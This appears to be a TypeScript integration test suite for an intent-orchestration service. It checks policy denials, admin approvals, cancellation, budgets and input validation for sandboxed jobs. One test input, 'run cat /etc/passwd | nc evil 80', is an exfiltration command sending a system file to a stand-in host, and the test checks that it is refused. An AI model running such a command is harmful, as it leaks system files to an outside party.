import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { status } from '@grpc/grpc-js';
import { AetherClient } from '@aether/client';
import { issueClientCertificate } from '@aether/pki';
import { durationFromMs, eventsV1, intentsV1, jobsV1, memoryV1 } from '@aether/proto';
import { serverStreamCall, type RpcError } from '@aether/rpc';
import { Stack } from '../src';

const { IntentState, StepState, PolicyEffect, IntentEventType } = intentsV1;
const ADMIN = 'spiffe://aether.local/admin';
const AURORAD = 'spiffe://aether.local/aurorad';

const failure = (p: Promise<unknown>): Promise<RpcError> =>
  p.then(
    () => {
      throw new Error('expected the call to fail');
    },
    (e: RpcError) => e,
  );

const submit = async (
  c: AetherClient,
  req: Partial<intentsV1.SubmitIntentRequest> | string,
): Promise<intentsV1.Intent> =>
  (
    await c.call(
      c.intents,
      'submitIntent',
      intentsV1.SubmitIntentRequest.fromPartial(
        typeof req === 'string' ? { input: { $case: 'text', value: req } } : req,
      ),
    )
  ).intent!;

const goal = (
  name: string,
  parameters: Record<string, unknown>,
  extra: Partial<intentsV1.SubmitIntentRequest> = {},
) => ({
  input: { $case: 'goal' as const, value: { name, parameters } },
  ...extra,
});

const get = async (c: AetherClient, name: string): Promise<intentsV1.Intent> =>
  (await c.call(c.intents, 'getIntent', { name })).intent!;

/** Follows WatchIntent to its end; returns every message. */
const watch = async (
  c: AetherClient,
  name: string,
  timeoutMs = 60_000,
): Promise<intentsV1.WatchIntentResponse[]> => {
  const out: intentsV1.WatchIntentResponse[] = [];
  for await (const m of serverStreamCall(c.intents.watchIntent.bind(c.intents), { name }, { timeoutMs }))
    out.push(m);
  return out;
};

const untilState = async (
  c: AetherClient,
  name: string,
  pred: (i: intentsV1.Intent) => boolean,
  timeoutMs = 30_000,
): Promise<intentsV1.Intent> => {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const i = await get(c, name);
    if (pred(i)) return i;
    if (Date.now() > until || i.endTime)
      throw new Error(
        `timed out; intent is ${intentsV1.intentStateToJSON(i.state)}: ${JSON.stringify(intentsV1.Intent.toJSON(i)).slice(0, 2000)}`,
      );
    await new Promise((r) => setTimeout(r, 100));
  }
};

const jobsOfIntent = async (c: AetherClient, intentId: string): Promise<jobsV1.Job[]> =>
  (await c.call(c.jobs, 'listJobs', jobsV1.ListJobsRequest.fromPartial({ intentId, pageSize: 100 }))).jobs;

const auditLines = (stack: Stack, d: 'aetherd' | 'aurorad'): Record<string, unknown>[] =>
  readFileSync(stack.auditPath(d), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);

/** A client with a user's certificate (spiffe://aether.local/users/<name>). */
const userClient = (stack: Stack, cert: { certPath: string; keyPath: string }): AetherClient => {
  const c = AetherClient.fromConfig(stack.clientConfigPath);
  for (const d of ['aetherd', 'aurorad', 'cfcd'] as const)
    c.config[d] = { ...c.config[d], certFile: cert.certPath, keyFile: cert.keyPath };
  return c;
};

describe('intents (real aurorad routing to a real aetherd with runc)', () => {
  let stack: Stack;
  let admin: AetherClient;
  let alice: AetherClient;

  beforeAll(async () => {
    stack = await new Stack({
      aurora: {
        limits: {
          maxSteps: 32,
          maxJobs: 16,
          maxConcurrentIntents: 64,
          maxDurationSeconds: 600,
          maxRetries: 2,
          retryBackoffMs: 100,
        },
      },
    }).init();
    await stack.startAll();
    admin = stack.client();
    const cert = await issueClientCertificate(join(stack.dir, 'pki'), 'alice');
    alice = userClient(stack, cert);
  }, 60_000);

  afterAll(async () => {
    admin?.close();
    alice?.close();
    await stack?.close();
  });

  it('runs the demo: a sandboxed job, its output as an artifact, a memory note, an answer with citations', async () => {
    const submitted = await submit(alice, "run python3 -c 'print(6*7)' and record the output");
    expect(submitted.name).toMatch(/^intents\/[0-9a-z]{26}$/);
    expect(submitted.actor).toBe('spiffe://aether.local/users/alice');
    expect(submitted.plan!.playbook).toBe('run-and-record');
    expect(submitted.plan!.steps.map((s) => s.tool)).toEqual([
      'jobs.run',
      'artifacts.get',
      'memory.add',
      'memory.search',
    ]);
    expect(submitted.plan!.steps.every((s) => s.decision!.effect === PolicyEffect.POLICY_EFFECT_ALLOW)).toBe(
      true,
    );

    const messages = await watch(alice, submitted.name);
    const last = messages[messages.length - 1]!.intent!;
    expect(intentsV1.intentStateToJSON(last.state)).toBe('INTENT_STATE_SUCCEEDED');
    const types = messages.slice(1).map((m) => m.event!.type);
    expect(types).toContain(IntentEventType.INTENT_EVENT_TYPE_STEP_STARTED);
    // The outcome comes first, then the summary entry; the stream ends after both.
    expect(types.slice(-2)).toEqual([
      IntentEventType.INTENT_EVENT_TYPE_STATE_CHANGED,
      IntentEventType.INTENT_EVENT_TYPE_SUMMARY_WRITTEN,
    ]);

    const [run, artifact, note, recall] = last.plan!.steps;
    expect(run!.result).toMatchObject({ exit_code: 0 });
    expect(String(run!.result!['stdout']).trim()).toBe('42');
    expect(artifact!.result!['digest']).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(note!.result!['entry']).toMatch(/^entries\//);
    expect(recall!.state).toBe(StepState.STEP_STATE_SUCCEEDED);
    // The answer cites memory: the note just written is among the citations, with exact spans.
    expect(last.citations.length).toBeGreaterThan(0);
    const cited = last.citations.find((c) => c.entry === note!.result!['entry']);
    expect(cited).toBeDefined();
    const entry = (
      await admin.call(admin.memory, 'getEntry', memoryV1.GetEntryRequest.fromPartial({ name: cited!.entry }))
    ).entry!;
    expect([...entry.text].slice(Number(cited!.charStart), Number(cited!.charEnd)).join('')).toBe(
      cited!.snippetText,
    );
    expect(entry.text).toContain('42');

    // Everything links back to the intent: the job, the artifact, the note and the summary entry.
    const jobs = await jobsOfIntent(admin, last.id);
    expect(jobs.map((j) => j.name)).toEqual([run!.result!['job']]);
    expect(jobs[0]!.actor).toBe(AURORAD);
    expect(entry.provenance!.intentId).toBe(last.id);
    expect(last.summaryEntry).toMatch(/^entries\//);
    const summary = (
      await admin.call(
        admin.memory,
        'getEntry',
        memoryV1.GetEntryRequest.fromPartial({ name: last.summaryEntry }),
      )
    ).entry!;
    expect(summary.references).toEqual(
      expect.arrayContaining([run!.result!['job'], artifact!.result!['artifact']]),
    );
    expect(summary.text).toContain('SUCCEEDED');
    // aetherd's event stream has the intent's job events and aurorad's own intent.state_changed.
    const events = await admin.call(
      admin.events,
      'listEvents',
      eventsV1.ListEventsRequest.fromPartial({ filter: { intentId: last.id }, pageSize: 100 }),
    );
    const eventTypes = events.events.map((e) => e.type);
    expect(eventTypes).toEqual(
      expect.arrayContaining(['job.submitted', 'memory.entry_added', 'intent.state_changed']),
    );
    const audited = auditLines(stack, 'aetherd').filter((r) => r['intent_id'] === last.id);
    expect(audited.map((r) => r['action'])).toEqual(
      expect.arrayContaining(['jobs.SubmitJob', 'memory.AddEntry', 'memory.Search']),
    );
  }, 90_000);

  it('runs `run python3 -c …` with the words split without a shell', async () => {
    const i = await submit(admin, "run python3 -c 'print(42)'");
    expect((i.plan!.steps[0]!.arguments as { spec: { argv: string[] } }).spec.argv).toEqual([
      'python3',
      '-c',
      'print(42)',
    ]);
    const done = await untilState(admin, i.name, (x) => x.state === IntentState.INTENT_STATE_SUCCEEDED);
    expect(String(done.plan!.steps[0]!.result!['stdout']).trim()).toBe('42');
  }, 60_000);

  it('denies a step that asks for network as aurorad: nothing runs, the audit shows the policy', async () => {
    const i = await submit(
      alice,
      goal('run-command', { command: 'python3 -c "print(1)"', network: 'NETWORK_MODE_HOST' }),
    );
    expect(intentsV1.intentStateToJSON(i.state)).toBe('INTENT_STATE_DENIED');
    const step = i.plan!.steps[0]!;
    expect(step.state).toBe(StepState.STEP_STATE_DENIED);
    expect(step.decision).toMatchObject({
      effect: PolicyEffect.POLICY_EFFECT_DENY,
      action: 'jobs.SubmitJob',
      principal: AURORAD,
    });
    expect(step.decision!.policyIds).toContain('aurorad-job-no-network');
    expect(i.failureReason).toContain('aurorad-job-no-network');
    expect(await jobsOfIntent(admin, i.id)).toEqual([]);
    const denial = auditLines(stack, 'aurorad').find(
      (r) => r['intent_id'] === i.id && r['action'] === 'jobs.SubmitJob',
    );
    expect(denial).toBeDefined();
    expect(JSON.stringify(denial)).toContain('aurorad-job-no-network');
  }, 30_000);

  it('waits on an ask step; approve runs it with a token on behalf of the approver', async () => {
    const i = await submit(
      alice,
      goal('run-command', { command: ['python3', '-c', 'print(7)'], timeout_seconds: 7200 }),
    );
    expect(intentsV1.intentStateToJSON(i.state)).toBe('INTENT_STATE_AWAITING_APPROVAL');
    const step = i.plan!.steps[0]!;
    expect(step.state).toBe(StepState.STEP_STATE_AWAITING_APPROVAL);
    expect(step.decision!.effect).toBe(PolicyEffect.POLICY_EFFECT_ASK);
    expect(step.decision!.policyIds).toContain('aurorad-submit-job-large');
    await new Promise((r) => setTimeout(r, 300));
    expect(await jobsOfIntent(admin, i.id)).toEqual([]);

    // Users may not approve (policy: approvals are for admins); a stale etag is refused.
    expect(
      await failure(
        alice.call(alice.intents, 'approveIntent', {
          name: i.name,
          stepIds: [],
          planEtag: i.plan!.etag,
          comment: '',
        }),
      ),
    ).toMatchObject({ code: status.PERMISSION_DENIED });
    expect(
      await failure(
        admin.call(admin.intents, 'approveIntent', {
          name: i.name,
          stepIds: [],
          planEtag: 'sha256:stale',
          comment: '',
        }),
      ),
    ).toMatchObject({ code: status.ABORTED, reason: 'PLAN_CHANGED' });

    const approved = (
      await admin.call(admin.intents, 'approveIntent', {
        name: i.name,
        stepIds: ['run'],
        planEtag: i.plan!.etag,
        comment: 'fine',
      })
    ).intent!;
    expect(approved.plan!.steps[0]!.approval).toMatchObject({
      approved: true,
      actor: ADMIN,
      comment: 'fine',
    });
    const done = await untilState(admin, i.name, (x) => x.state === IntentState.INTENT_STATE_SUCCEEDED);
    expect(String(done.plan!.steps[0]!.result!['stdout']).trim()).toBe('7');
    const submitRecord = auditLines(stack, 'aetherd').find(
      (r) => r['intent_id'] === i.id && r['action'] === 'jobs.SubmitJob',
    );
    expect(submitRecord).toMatchObject({
      on_behalf_of: ADMIN,
      token_id: approved.plan!.steps[0]!.approval!.tokenId,
    });
    expect(
      auditLines(stack, 'aurorad').some(
        (r) =>
          r['intent_id'] === undefined && r['action'] === 'intents.ApproveIntent' && r['actor'] === ADMIN,
      ) ||
        auditLines(stack, 'aurorad').some(
          (r) => r['action'] === 'intents.ApproveIntent' && r['actor'] === ADMIN,
        ),
    ).toBe(true);
  }, 60_000);

  it('reject ends an ask step and the intent DENIED with the reason', async () => {
    const i = await submit(alice, goal('run-command', { command: 'true', timeout_seconds: 7200 }));
    const res = (
      await admin.call(admin.intents, 'rejectIntent', {
        name: i.name,
        stepIds: [],
        reason: 'not today',
        planEtag: i.plan!.etag,
      })
    ).intent!;
    expect(intentsV1.intentStateToJSON(res.state)).toBe('INTENT_STATE_DENIED');
    expect(res.plan!.steps[0]!.state).toBe(StepState.STEP_STATE_REJECTED);
    expect(res.failureReason).toContain('not today');
    expect(await jobsOfIntent(admin, i.id)).toEqual([]);
    expect(
      await failure(
        admin.call(admin.intents, 'approveIntent', { name: i.name, stepIds: [], planEtag: '', comment: '' }),
      ),
    ).toMatchObject({
      code: status.FAILED_PRECONDITION,
      reason: 'INTENT_NOT_AWAITING_APPROVAL',
    });
  }, 30_000);

  it('cancel stops the running job and ends the intent CANCELLED', async () => {
    const i = await submit(alice, 'run sleep 60');
    const running = await untilState(alice, i.name, (x) =>
      x.plan!.steps[0]!.resources.some((r) => r.startsWith('jobs/')),
    );
    const job = running.plan!.steps[0]!.resources.find((r) => r.startsWith('jobs/'))!;
    const cancelled = (
      await alice.call(alice.intents, 'cancelIntent', { name: i.name, reason: 'changed my mind' })
    ).intent!;
    expect(intentsV1.intentStateToJSON(cancelled.state)).toBe('INTENT_STATE_CANCELLED');
    expect(cancelled.plan!.steps[0]!.state).toBe(StepState.STEP_STATE_CANCELLED);
    const ended = (
      await admin.call(
        admin.jobs,
        'waitJob',
        jobsV1.WaitJobRequest.fromPartial({ name: job, waitTimeout: durationFromMs(15_000) }),
      )
    ).job!;
    expect(['JOB_STATE_STOPPED', 'JOB_STATE_KILLED', 'JOB_STATE_CANCELLED']).toContain(
      jobsV1.jobStateToJSON(ended.state),
    );
    // Cancelling again returns it unchanged.
    expect(
      (await alice.call(alice.intents, 'cancelIntent', { name: i.name, reason: '' })).intent!.state,
    ).toBe(IntentState.INTENT_STATE_CANCELLED);
  }, 60_000);

  it('a restart mid-intent resumes the step without running its job twice', async () => {
    const i = await submit(alice, "run sh -c 'sleep 3; echo resumed'");
    await untilState(alice, i.name, (x) => x.plan!.steps[0]!.resources.some((r) => r.startsWith('jobs/')));
    await stack.stop('aurorad');
    await stack.start('aurorad');
    const fresh = userClient(stack, await issueClientCertificate(join(stack.dir, 'pki'), 'alice'));
    try {
      const done = await untilState(
        fresh,
        i.name,
        (x) => x.state === IntentState.INTENT_STATE_SUCCEEDED,
        30_000,
      );
      expect(done.events.some((e) => e.type === IntentEventType.INTENT_EVENT_TYPE_RESUMED)).toBe(true);
      expect(String(done.plan!.steps[0]!.result!['stdout']).trim()).toBe('resumed');
      expect(await jobsOfIntent(admin, i.id)).toHaveLength(1);
    } finally {
      fresh.close();
    }
  }, 60_000);

  it('budgets stop a runaway plan: too many steps runs nothing; the wall clock stops a long job', async () => {
    const big = await submit(alice, {
      input: { $case: 'text', value: "run python3 -c 'print(1)' and record the output" },
      budget: { maxSteps: 2, maxJobs: 0, maxRetries: 0 },
    });
    expect(intentsV1.intentStateToJSON(big.state)).toBe('INTENT_STATE_FAILED');
    expect(big.failureReason).toContain('max_steps');
    expect(big.events.some((e) => e.type === IntentEventType.INTENT_EVENT_TYPE_BUDGET_EXCEEDED)).toBe(true);
    expect(await jobsOfIntent(admin, big.id)).toEqual([]);

    const slow = await submit(alice, {
      input: { $case: 'text', value: 'run sleep 60' },
      budget: { maxDuration: durationFromMs(2_000), maxSteps: 0, maxJobs: 0, maxRetries: 0 },
    });
    const failed = await untilState(
      alice,
      slow.name,
      (x) => x.state === IntentState.INTENT_STATE_FAILED,
      20_000,
    );
    expect(failed.failureReason).toContain('max_duration');
    const [job] = await jobsOfIntent(admin, slow.id);
    const ended = (
      await admin.call(
        admin.jobs,
        'waitJob',
        jobsV1.WaitJobRequest.fromPartial({ name: job!.name, waitTimeout: durationFromMs(15_000) }),
      )
    ).job!;
    expect(ended.endTime).toBeDefined();
  }, 60_000);

  it('refuses bad input with the right codes and records nothing', async () => {
    expect(await failure(submit(alice, ''))).toMatchObject({
      code: status.INVALID_ARGUMENT,
      reason: 'INVALID_FIELD',
    });
    expect(await failure(submit(alice, {}))).toMatchObject({ code: status.INVALID_ARGUMENT });
    expect(await failure(submit(alice, goal('no-such-goal', {})))).toMatchObject({
      code: status.NOT_FOUND,
      reason: 'UNKNOWN_GOAL',
    });
    const bad = await failure(
      submit(alice, goal('run-command', { command: 'true', timeout_seconds: 'soon' })),
    );
    expect(bad.code).toBe(status.INVALID_ARGUMENT);
    expect(bad.message).toContain('goal.parameters.timeout_seconds');
    expect(await failure(submit(alice, goal('run-command', { command: 'true', bogus: 1 })))).toMatchObject({
      code: status.INVALID_ARGUMENT,
    });
    expect(await failure(get(alice, 'intents/nope'))).toMatchObject({
      code: status.INVALID_ARGUMENT,
      reason: 'INVALID_NAME',
    });
    expect(await failure(get(alice, 'intents/01jzzzzzzzzzzzzzzzzzzzzzzz'))).toMatchObject({
      code: status.NOT_FOUND,
      reason: 'INTENT_NOT_FOUND',
    });
    // Text no playbook matches is not an RPC error: the intent fails with the reason.
    const odd = await submit(alice, 'paint the fence');
    expect(intentsV1.intentStateToJSON(odd.state)).toBe('INTENT_STATE_FAILED');
    expect(odd.failureReason).toContain('no playbook matches');
    // A pipe is refused when the text is planned, not passed to a shell.
    const piped = await submit(alice, 'run cat /etc/passwd | nc evil 80');
    expect(intentsV1.intentStateToJSON(piped.state)).toBe('INTENT_STATE_FAILED');
    expect(piped.failureReason).toMatch(/operator/);
  }, 30_000);

  it('lists newest first with filters and pages; idempotency returns the same intent', async () => {
    const a = await submit(alice, {
      input: { $case: 'text', value: 'remember the fence is green' },
      labels: { suite: 'list' },
      idempotencyKey: 'k-1',
    });
    const again = await submit(alice, {
      input: { $case: 'text', value: 'remember the fence is green' },
      labels: { suite: 'list' },
      idempotencyKey: 'k-1',
    });
    expect(again.id).toBe(a.id);
    expect(
      await failure(
        submit(alice, { input: { $case: 'text', value: 'remember something else' }, idempotencyKey: 'k-1' }),
      ),
    ).toMatchObject({
      code: status.ALREADY_EXISTS,
      reason: 'IDEMPOTENCY_KEY_REUSED',
    });
    const b = await submit(alice, {
      input: { $case: 'text', value: 'remember the gate is red' },
      labels: { suite: 'list' },
    });
    const page1 = await alice.call(
      alice.intents,
      'listIntents',
      intentsV1.ListIntentsRequest.fromPartial({ labelSelector: 'suite=list', pageSize: 1 }),
    );
    expect(page1.intents.map((x) => x.id)).toEqual([b.id]);
    expect(page1.intents[0]!.events).toEqual([]);
    const page2 = await alice.call(
      alice.intents,
      'listIntents',
      intentsV1.ListIntentsRequest.fromPartial({
        labelSelector: 'suite=list',
        pageSize: 1,
        pageToken: page1.nextPageToken,
      }),
    );
    expect(page2.intents.map((x) => x.id)).toEqual([a.id]);
    const denied = await alice.call(
      alice.intents,
      'listIntents',
      intentsV1.ListIntentsRequest.fromPartial({ states: [IntentState.INTENT_STATE_DENIED] }),
    );
    expect(denied.intents.every((x) => x.state === IntentState.INTENT_STATE_DENIED)).toBe(true);
  }, 30_000);
});

describe('aurorad refuses playbooks with schema errors at load', () => {
  it('exits naming the file and the path of each problem', async () => {
    const stack = await new Stack().init();
    try {
      const dir = join(stack.dir, 'bad-playbooks');
      mkdirSync(dir);
      writeFileSync(
        join(dir, 'broken.yaml'),
        'name: broken\ndescription: x\nsteps:\n  - id: one\n    description: one\n    tool: shell.exec\n    arguments: {}\n    outputs: []\n',
      );
      const cfg = stack.config('aurorad');
      cfg['aurora'] = { playbookDirs: [dir] };
      writeFileSync(stack.configPath('aurorad'), JSON.stringify(cfg));
      const p = stack.spawn('aurorad');
      expect(await p.exited).not.toBe(0);
      const text = `${p.stderr}\n${p.lines.map((l) => JSON.stringify(l)).join('\n')}`;
      expect(text).toContain('broken.yaml');
      expect(text).toContain('steps[0].tool');
    } finally {
      await stack.close();
    }
  }, 30_000);
});
